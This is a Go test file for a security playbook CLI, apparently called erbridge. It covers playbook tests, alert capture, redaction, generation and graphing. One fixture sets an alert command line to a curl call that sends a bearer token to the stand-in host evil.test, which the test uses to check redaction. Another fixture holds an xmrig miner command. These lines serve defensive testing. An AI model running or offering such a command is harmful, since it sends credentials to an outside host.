package main

import (
	"context"
	"encoding/json"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/erbridge/erbridge/internal/config"
	"github.com/erbridge/erbridge/internal/soar"
	"github.com/erbridge/erbridge/playbooks/library"
)

const goodTest = `
alert: {severity: high, host: {name: WIN-1}}
given: [{do: alert.note, state: verified}]
tests:
  - name: it is noted
    expect: {verdict: match, actions: [{do: alert.note, with: {text: WIN-1}}], outcome: done}
  - name: low is left alone
    patch: {severity: low}
    expect: {verdict: no match, reason: severity is high}
`

// What playbook test says and how it ends, for each flag.
func TestPlaybookTestCommand(t *testing.T) {
	dir := t.TempDir()
	good := write(t, dir, "good.yaml", goodConfig)
	write(t, dir, "playbooks/note.yaml", goodPlaybook)
	write(t, dir, "playbooks/note_test.yaml", goodTest)
	write(t, dir, "failing/note.yaml", goodPlaybook)
	failing := write(t, dir, "failing/note_test.yaml", strings.Replace(goodTest, "WIN-1}}]", "WIN-2}}]", 1))
	write(t, dir, "partly/note.yaml", goodPlaybook)
	high, _, _ := strings.Cut(goodTest, "  - name: low")
	write(t, dir, "partly/note_test.yaml", high)
	broken := write(t, dir, "broken/note_test.yaml", goodTest)
	none := write(t, dir, "none/note.yaml", goodPlaybook)
	empty := t.TempDir()

	for _, tt := range []struct {
		name           string
		line           []string
		code           int
		stdout, stderr string
	}{
		{"library and configuration", []string{"-c", good}, exitOK, "ok   note: 2\n", ""},
		{"a folder", []string{dir + "/playbooks"}, exitOK, "2 passed, 0 failed", ""},
		{"a playbook", []string{dir + "/playbooks/note.yaml"}, exitOK, "2 passed, 0 failed", ""},
		{"a test file", []string{dir + "/playbooks/note_test.yaml"}, exitOK, "2 passed, 0 failed", ""},
		{"only some", []string{dir + "/playbooks", "--run", "note/low"}, exitOK, "1 passed, 0 failed", ""},
		{"none of that name", []string{dir + "/playbooks", "--run", "nothing"}, exitFailed, "", "no test has such a name"},
		{"a failure", []string{failing}, exitFailed, "failing/note_test.yaml:6:40: call 1 is another", "1 of 2 tests failed"},
		{"a failure as TAP", []string{failing, "-o", "tap"}, exitFailed, "not ok 1 - note: it is noted", ""},
		{"covered", []string{dir + "/playbooks", "--coverage", "--min", "100"}, exitOK, "coverage 100.0%", ""},
		{"not covered", []string{dir + "/partly", "--min", "90"}, exitFailed, `never: condition "severity is high" is false`, "the tests cover 66.7%, and --min asks for 90%"},
		{"no playbook", []string{broken}, exitConfig, "", "the playbook of the test"},
		{"no tests", []string{none}, exitFailed, "", "there are no tests"},
		{"nothing at all", []string{empty, "--min", "50"}, exitFailed, "", "there are no tests"},
		{"no tests to cover it", []string{none, "--coverage"}, exitFailed, "never: step", "there are no tests"},
		{"named twice", []string{dir + "/playbooks/note.yaml", dir + "/playbooks/note_test.yaml", dir + "/playbooks"}, exitOK, "2 passed, 0 failed", ""},
		{"a playbook of the library", []string{"triage-note"}, exitOK, "ok   triage-note: ", ""},
		{"a playbook of the configuration", []string{"note", "-c", good}, exitOK, "ok   note: 2", ""},
		{"no such playbook", []string{"triage-not", "-c", good}, exitNotFound, "", `did you mean "triage-note"?`},
		{"no folder", []string{dir + "/absent"}, exitNotFound, "", "absent"},
		{"pattern", []string{"--run", "("}, exitUsage, "", "--run"},
		{"percent", []string{"--min", "101"}, exitUsage, "", "from 0 to 100"},
		{"format", []string{"-o", "yaml"}, exitUsage, "", "human, junit, tap, json"},
		{"update", []string{failing, "--update"}, exitOK, "2 passed, 0 failed", "rewrote what is expected in 1 test"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			stdout, stderr, code := erbridge(t, "", append([]string{"playbook", "test"}, tt.line...)...)
			if code != tt.code || !strings.Contains(stdout, tt.stdout) || !strings.Contains(stderr, tt.stderr) {
				t.Errorf("%v: code %d, want %d\n%s%s", tt.line, code, tt.code, stdout, stderr)
			}
		})
	}
}

// Without a configuration, the library is tested.
func TestPlaybookTestWithoutConfiguration(t *testing.T) {
	t.Chdir(t.TempDir())
	stdout, stderr, code := erbridge(t, "", "playbook", "test", "--run", "^triage-note/")
	if code != exitOK || !strings.Contains(stdout, "ok   triage-note: ") {
		t.Errorf("code %d\n%s%s", code, stdout, stderr)
	}
}

// Watching runs at the start and after each change, tells what is wrong, and ends
// without an error when it is interrupted.
func TestWatch(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	tick, runs := make(chan time.Time), make(chan int)
	states := []string{"a", "a", "b", "b", "c"}
	ended := make(chan error, 1)
	looks, n := 0, 0
	var said strings.Builder
	go func() {
		ended <- watch(ctx, &said, tick, func() string { looks++; return states[looks-1] }, func() error {
			n++
			runs <- n
			return os.ErrInvalid
		})
	}()
	for i, ran := range []bool{true, false, true, false, true} {
		if i > 0 {
			tick <- time.Time{}
		}
		if ran {
			<-runs
		}
	}
	cancel()
	if err := <-ended; err != nil || n != 3 || strings.Count(said.String(), "invalid argument") < 2 {
		t.Errorf("%d runs, %v, %q", n, err, said.String())
	}
}

func TestFilesOf(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "in", "playbooks")
	path := write(t, dir, "a.yaml", "a")
	places, err := placesOf([]string{dir})
	if err != nil {
		t.Fatal(err)
	}
	before := filesOf(places)
	write(t, dir, "a.txt", "no playbook")
	if filesOf(places) != before {
		t.Error("a text file counts")
	}
	if err := os.Chtimes(path, time.Time{}, time.Now().Add(time.Hour)); err != nil {
		t.Fatal(err)
	}
	if filesOf(places) == before {
		t.Error("a change does not show")
	}
	// Lists of playbooks, and alerts that stand elsewhere.
	write(t, dir, "b.yaml", "playbook: b\nlists: {vip: {file: vip.txt}}\n")
	write(t, dir, "b_test.yaml", "alert: ../b.json\ntests: [{name: a, alert: ../../c.yaml}]\n")
	for _, name := range []string{"vip.txt", "../b.json", "../../c.yaml"} {
		before := filesOf(places)
		write(t, dir, name, "a")
		if filesOf(places) == before {
			t.Errorf("%s does not count", name)
		}
	}
}

// An alert of the store becomes a file, that a playbook, and that tests which pass.
func TestFromAlertToTests(t *testing.T) {
	dir := t.TempDir()
	cfg := write(t, dir, "erbridge.yaml", goodConfig)
	write(t, dir, "playbooks/note.yaml", goodPlaybook)
	at := time.Date(2026, 11, 22, 3, 22, 30, 0, time.UTC)
	alert := soar.Alert{
		Server: "er", ID: "4711", Source: "rule", Severity: soar.SeverityHigh, Status: soar.StatusOpen, CreatedAt: at, EventTime: at,
		Host: soar.Host{Identifier: "4C4C", Name: "ACME-PC7", Platform: "windows"}, Rule: &soar.Rule{ID: 3, Name: "Coin miner"},
		Event: map[string]string{"cmdline": `xmrig -u ACME\eve`, "path": `C:\Temp\xmrig.exe`, "owner_uid": `ACME\eve`},
	}
	storeAlerts(t, dir, alert)

	pbs := filepath.Join(dir, "pbs")
	stdout, stderr, code := erbridge(t, "", "alerts", "capture", "er-4711", "-c", cfg, "--dir", pbs+"/alerts", "--keep", "host.name")
	fixture := filepath.Join(pbs, "alerts", "er-4711.json")
	if code != exitOK || !strings.Contains(stdout, "wrote "+fixture) || !strings.Contains(stdout, "A test begins like this") || !strings.Contains(stderr, `eve -> user-1`) {
		t.Fatalf("capture: code %d\n%s%s", code, stdout, stderr)
	}
	data, err := os.ReadFile(fixture)
	if err != nil {
		t.Fatal(err)
	}
	var captured soar.Alert
	if err := json.Unmarshal(data, &captured); err != nil || captured.Host.Name != "ACME-PC7" || strings.Contains(string(data), "eve\"") {
		t.Errorf("%v: %s", err, data)
	}
	if _, stderr, code := erbridge(t, "", "alerts", "capture", "er-4711", "-c", cfg, "--dir", pbs+"/alerts"); code != exitUsage || !strings.Contains(stderr, "exists already") {
		t.Errorf("capture again: code %d, %s", code, stderr)
	}
	if _, stderr, code := erbridge(t, "", "alerts", "capture", "er-4711", "-c", cfg, "--dir", dir, "--keep", "event.x"); code != exitUsage || !strings.Contains(stderr, `no field "event.x"`) {
		t.Errorf("capture with a field that is not there: code %d, %s", code, stderr)
	}

	stdout, stderr, code = erbridge(t, "", "playbook", "new", "--alert", fixture, "--dir", pbs)
	playbook := filepath.Join(pbs, "coin-miner.yaml")
	if code != exitOK || !strings.Contains(stdout, "wrote "+playbook) {
		t.Fatalf("new: code %d\n%s%s", code, stdout, stderr)
	}
	if stdout, stderr, code := erbridge(t, "", "playbook", "lint", playbook); code != exitOK || strings.Contains(stdout+stderr, "PB") {
		t.Errorf("lint: code %d\n%s%s", code, stdout, stderr)
	}
	if stdout, stderr, code := erbridge(t, "", "playbook", "test", pbs, "--min", "100"); code != exitOK {
		t.Errorf("test: code %d\n%s%s", code, stdout, stderr)
	}
	if _, err := os.Stat(filepath.Join(pbs, ".erbridge", "playbook.schema.json")); err != nil {
		t.Error(err)
	}
	if _, stderr, code := erbridge(t, "", "playbook", "new", "--alert", fixture, "--dir", pbs); code != exitUsage || !strings.Contains(stderr, "exists already") {
		t.Errorf("new again: code %d, %s", code, stderr)
	}

	// Tests of a playbook that has none.
	other := write(t, dir, "other/note.yaml", goodPlaybook)
	stdout, stderr, code = erbridge(t, "", "alerts", "capture", "er-4711", "-c", cfg, "--dir", dir+"/other/alerts", "--playbook", other)
	if code != exitOK || !strings.Contains(stdout, "note_test.yaml") {
		t.Fatalf("capture for a playbook: code %d\n%s%s", code, stdout, stderr)
	}
	tests, err := os.ReadFile(filepath.Join(dir, "other", "note_test.yaml"))
	if err != nil || !strings.Contains(string(tests), "text: HOST-1") || !strings.Contains(string(tests), "outcome: done") {
		t.Errorf("%v\n%s", err, tests)
	}
	if stdout, stderr, code := erbridge(t, "", "playbook", "test", other); code != exitOK {
		t.Errorf("test of it: code %d\n%s%s", code, stdout, stderr)
	}
}

// Any playbook gets tests that pass, and one that gets none leaves no file behind.
func TestCaptureWithPlaybook(t *testing.T) {
	dir := t.TempDir()
	cfg := write(t, dir, "erbridge.yaml", goodConfig)
	write(t, dir, "playbooks/note.yaml", goodPlaybook)
	alert := numbered(7, soar.SeverityHigh)
	alert.Event["cmdline"] = `curl -H "Authorization: Bearer abcdef123456" https://evil.test`
	storeAlerts(t, dir, alert)
	capture := func(line ...string) (stdout, stderr string, code int) {
		return erbridge(t, "", append([]string{"alerts", "capture", "-c", cfg}, line...)...)
	}
	for _, name := range config.LibraryNames() {
		data, err := fs.ReadFile(library.FS, name+".yaml")
		if err != nil {
			t.Fatal(err)
		}
		path := write(t, dir, "lib/"+name+".yaml", string(data))
		if _, stderr, code := capture("er-7", "--dir", filepath.Join(dir, "lib", "alerts-"+name), "--playbook", path); code != exitOK || strings.Contains(stderr, "abcdef123456") {
			t.Errorf("%s: code %d, %s", name, code, stderr)
		}
	}
	if stdout, stderr, code := erbridge(t, "", "playbook", "test", filepath.Join(dir, "lib")); code != exitOK {
		t.Errorf("code %d\n%s%s", code, stdout, stderr)
	}

	broken := write(t, dir, "broken.yaml", strings.Replace(goodPlaybook, "alert.note", "alert.nto", 1))
	hourly := write(t, dir, "hourly.yaml", "playbook: hourly\non: {schedule: {every: 1h}}\nsteps: [{do: notify.send, with: {sink: screen, text: a}}]")
	for _, tt := range []struct {
		line   []string
		code   int
		stderr string
	}{
		{[]string{"er-8"}, exitNotFound, "erbridge alerts list names those of the store"},
		{[]string{"er-7", "--playbook", filepath.Join(dir, "absent.yaml")}, exitNotFound, "absent.yaml"},
		{[]string{"er-7", "--playbook", broken}, exitConfig, `unknown action "alert.nto"`},
		{[]string{"er-7", "--playbook", hourly}, exitUsage, "takes no alerts"},
	} {
		into := filepath.Join(dir, "nothing")
		if _, stderr, code := capture(append(tt.line, "--dir", into)...); code != tt.code || !strings.Contains(stderr, tt.stderr) {
			t.Errorf("%v: code %d, want %d: %s", tt.line, code, tt.code, stderr)
		}
		if _, err := os.Stat(into); !errors.Is(err, fs.ErrNotExist) {
			t.Errorf("%v: something was written, %v", tt.line, err)
		}
	}
}

// What cannot become a playbook is refused before anything is written.
func TestNewRefuses(t *testing.T) {
	dir := t.TempDir()
	alert := write(t, dir, "alert.json", `{"server": "er", "id": "7", "severity": "high", "event": {}}`)
	empty := write(t, dir, "empty.json", `{}`)
	for _, tt := range []struct {
		line   []string
		code   int
		stderr string
	}{
		{[]string{"noise_test", "--alert", alert}, exitUsage, "without _test at its end"},
		{[]string{"../up", "--alert", alert}, exitUsage, `"../up" is no name for a playbook`},
		{[]string{"a", "--alert", empty}, exitUsage, "says nothing to begin with"},
		{[]string{"a", "--alert", filepath.Join(dir, "absent.json")}, exitNotFound, "absent.json"},
		{[]string{"a"}, exitUsage, "--alert"},
	} {
		into := filepath.Join(dir, "new")
		if _, stderr, code := erbridge(t, "", append([]string{"playbook", "new", "--dir", into}, tt.line...)...); code != tt.code || !strings.Contains(stderr, tt.stderr) {
			t.Errorf("%v: code %d, want %d: %s", tt.line, code, tt.code, stderr)
		}
		if _, err := os.Stat(into); !errors.Is(err, fs.ErrNotExist) {
			t.Errorf("%v: something was written, %v", tt.line, err)
		}
	}
	into := filepath.Join(dir, "null")
	if _, stderr, code := erbridge(t, "", "playbook", "new", "null", "--alert", alert, "--dir", into); code != exitOK {
		t.Fatalf("code %d: %s", code, stderr)
	}
	if data, err := os.ReadFile(filepath.Join(into, "null.yaml")); err != nil || !strings.Contains(string(data), "\nplaybook: \"null\"\n") {
		t.Errorf("%v\n%s", err, data)
	}
}

func TestSchemaCommand(t *testing.T) {
	for word, title := range map[string]string{"playbook": "erbridge playbook", "test": "erbridge playbook test", "config": "erbridge configuration"} {
		stdout, stderr, code := erbridge(t, "", "playbook", "schema", word)
		var schema struct{ Title string }
		if err := json.Unmarshal([]byte(stdout), &schema); err != nil || code != exitOK || schema.Title != title {
			t.Errorf("%s: code %d, %v, title %q %s", word, code, err, schema.Title, stderr)
		}
	}
	if _, stderr, code := erbridge(t, "", "playbook", "schema", "x"); code != exitUsage || !strings.Contains(stderr, "config, playbook, test") {
		t.Errorf("code %d, %s", code, stderr)
	}
}

// The drawings of a playbook with every kind of step.
func TestGraph(t *testing.T) {
	path := write(t, t.TempDir(), "drawn.yaml", `
playbook: drawn
on: [alert, manual, {schedule: {every: 6h}}]
match: {all: [{a "quoted" one: .alert.severity == "high"}]}
count: {by: .alert.host.identifier, window: 1h}
group: {by: .alert.host.identifier, window: 5m}
enrich: {known: {do: host.get, with: {host: "${{ .alert.host.identifier }}"}}}
cooldown: {key: .alert.host.identifier, for: 1h30m}
steps:
  - id: first
    if: .alert.status == "open"
    do: host.tag
    with: {host: "${{ .alert.host.identifier }}", tag: a}
    retry: {attempts: 3}
    timeout: 90s
    on_error: [{id: say, do: alert.note, with: {text: a}}]
  - {id: first_if, for_each: .alert.host.tags, max_parallel: 4, do: alert.note, with: {text: "${{ .item }}"}, on_error: continue}
  - {id: sub, if: 'any(.alert.host.tags[]?; . == "]; a --> b <i> #35; %%{init: {}}%% `+"`x`"+`")', call: drawn-too}
  - id: both
    parallel:
      - {id: left, do: alert.note, with: {text: a}}
      - - {id: right, do: alert.note, with: {text: a}, on_error: continue}
finally:
  - {id: before, do: alert.note, with: {text: a}}
  - {id: last, do: alert.note, with: {text: a}}
`)
	for _, format := range []string{"text", "mermaid", "dot"} {
		t.Run(format, func(t *testing.T) {
			stdout, stderr, code := erbridge(t, "", "playbook", "graph", path, "--format", format)
			if code != exitOK {
				t.Fatalf("code %d, %s", code, stderr)
			}
			file := filepath.Join("testdata", "drawn."+format)
			if *update {
				write(t, "testdata", "drawn."+format, stdout)
			}
			want, err := os.ReadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			if stdout != string(want) {
				t.Errorf("%s is another:\n%s", file, stdout)
			}
		})
	}
	if _, stderr, code := erbridge(t, "", "playbook", "graph", path, "--format", "svg"); code != exitUsage || !strings.Contains(stderr, "text, mermaid, dot") {
		t.Errorf("code %d, %s", code, stderr)
	}
}
